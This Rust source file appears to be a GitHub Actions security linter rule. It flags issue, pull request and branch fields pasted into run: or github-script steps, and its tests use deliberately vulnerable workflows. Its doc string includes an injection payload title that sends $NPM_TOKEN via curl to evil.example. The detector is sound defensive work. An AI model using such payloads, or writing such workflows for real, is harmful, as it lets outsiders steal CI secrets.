//! `script-injection`: an attacker-written field pasted into a shell script or github-script.

use turncoat_finding::{Level, RuleDoc, Severity};

use super::{GROUP, line_in, line_text};
use crate::model::{Job, Step, Workflow};
use crate::{Link, LinkKind, PostureFinding, Repo, chain, expr};

pub const RULE: RuleDoc = RuleDoc {
    code: "script-injection",
    group: GROUP,
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "${{ github.event.* }} fields an attacker writes are pasted into run: or github-script",
    doc: "\
GitHub substitutes `${{ … }}` into the script text before the shell (or `actions/github-script`) \
runs it, so a field an outsider writes — an issue or pull request title or body, a comment, a \
review, a branch name (`github.head_ref`, `…head.ref`), a commit message or author, a page \
name, a `workflow_run` head branch — becomes code. A title like \
`x\"; curl -d \"$NPM_TOKEN\" evil.example #` runs with the job's token and secrets. The nx \
\"s1ngularity\" compromise began with a pull request title injected into a \
`pull_request_target` workflow; the Ultralytics one with a branch name.

Also caught: the field copied into `env:` and pasted back as `${{ env.NAME }}`, and index \
forms (`github.event['pull_request']['title']`). Severity is critical when the workflow has a \
trigger anyone can cause with the base repository's privileges (`pull_request_target`, \
`workflow_run`, `issue_comment`, …).

Fix: pass the value through an environment variable and quote it in the shell: \
`env: TITLE: ${{ github.event.pull_request.title }}` then `run: echo \"$TITLE\"`.",
};

/// Env names (workflow, job, step) set from an attacker-controlled field.
fn tainted_env(wf: &Workflow, job: &Job, step: &Step) -> Vec<String> {
    wf.env_of(job, step)
        .filter(|p| {
            expr::expressions(&p.value).iter().any(|(_, e)| {
                expr::paths(e)
                    .iter()
                    .any(|x| expr::is_attacker_controlled(x))
            })
        })
        .map(|p| format!("env.{}", p.key.to_ascii_lowercase()))
        .collect()
}

/// `(offset, field)` of each attacker-controlled expression in `script`.
fn injections(script: &str, tainted: &[String]) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    for (off, e) in expr::expressions(script) {
        if let Some(p) = expr::paths(e)
            .into_iter()
            .find(|p| expr::is_attacker_controlled(p) || tainted.contains(p))
        {
            out.push((off, p));
        }
    }
    out
}

/// The scripts of a step: its `run:` and an `actions/github-script` `script:` input.
fn scripts_of(step: &Step) -> Vec<(&str, u32, &'static str)> {
    let mut scripts: Vec<(&str, u32, &'static str)> = Vec::new();
    if let Some(run) = &step.run {
        scripts.push((run, step.run_line, "run"));
    }
    if step.action().as_deref() == Some("actions/github-script")
        && let Some(p) = step.with.iter().find(|p| p.key == "script")
    {
        scripts.push((&p.value, p.line, "github-script"));
    }
    scripts
}

pub fn check(repo: &Repo) -> Vec<PostureFinding> {
    let mut out = Vec::new();
    for wf in &repo.workflows {
        for job in &wf.jobs {
            let untrusted = wf.untrusted_trigger_of(job);
            for step in &job.steps {
                let tainted = tainted_env(wf, job, step);
                // The step itself, then the steps of the local composite action it calls: they
                // see the same `github` context.
                for (inner, action) in repo.expand(step) {
                    let file = action.map_or(wf.path.as_str(), |a| a.path.as_str());
                    for (script, start, kind) in scripts_of(inner) {
                        for (off, field) in injections(script, &tainted) {
                            let mut links = chain(wf, untrusted, job, Some(step));
                            if let Some(a) = action {
                                links.push(Link {
                                    kind: LinkKind::Step,
                                    label: inner.label(),
                                    file: a.path.clone(),
                                    line: inner.line,
                                });
                            }
                            let mut f = PostureFinding::new(
                                &RULE,
                                format!(
                                    "`{field}` is pasted into the {kind} script of job `{}`{}{}: whoever writes it runs code with the job's token and secrets",
                                    job.id,
                                    action
                                        .map(|a| format!(" (inside {})", a.uses))
                                        .unwrap_or_default(),
                                    untrusted
                                        .map(|t| format!(
                                            ", started by `{}` (anyone can cause it)",
                                            t.event
                                        ))
                                        .unwrap_or_default()
                                ),
                                file,
                                line_in(script, start, off),
                                line_text(script, off),
                                links,
                            );
                            if untrusted.is_some() {
                                f.finding = f.finding.with_severity(Severity::Critical);
                            }
                            out.push(f);
                        }
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testutil::repo;

    #[test]
    fn pr_title_in_run_under_pull_request_target_is_critical() {
        let r = repo(&[(
            "t.yml",
            "on: pull_request_target\njobs:\n  t:\n    steps:\n      - run: |\n          echo start\n          echo \"${{ github.event.pull_request.title }}\"\n",
        )]);
        let f = check(&r);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].finding.severity, Severity::Critical);
        assert_eq!(f[0].line, 7);
    }

    #[test]
    fn env_indirection_and_github_script_fire() {
        let r = repo(&[(
            "t.yml",
            "on: issues\nenv:\n  T: ${{ github.event.issue.title }}\njobs:\n  t:\n    steps:\n      - run: echo \"${{ env.T }}\"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log(\"${{ github.event.issue.body }}\")\n",
        )]);
        let f = check(&r);
        assert_eq!(f.len(), 2, "{f:?}");
    }

    #[test]
    fn injection_inside_a_local_composite_action_fires_in_its_file() {
        let mut r = repo(&[(
            "t.yml",
            "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: ./.github/actions/greet\n",
        )]);
        r.actions.push(
            crate::load::parse_action(
                ".github/actions/greet/action.yml",
                "./.github/actions/greet",
                b"runs:\n  using: composite\n  steps:\n    - run: echo \"${{ github.head_ref }}\"\n      shell: bash\n",
                &crate::yaml::Limits::default(),
            )
            .unwrap()
            .unwrap(),
        );
        let f = check(&r);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].file, ".github/actions/greet/action.yml");
        assert_eq!(f[0].line, 4);
        assert_eq!(f[0].chain.len(), 4);
        assert_eq!(f[0].finding.severity, Severity::Critical);
    }

    #[test]
    fn safe_uses_do_not_fire() {
        let r = repo(&[(
            "t.yml",
            "on: pull_request_target\njobs:\n  t:\n    steps:\n      - run: echo \"$TITLE\" ${{ github.event.pull_request.number }}\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n      - uses: some/action@v1\n        with:\n          text: ${{ github.event.pull_request.title }}\n",
        )]);
        assert!(check(&r).is_empty());
    }
}
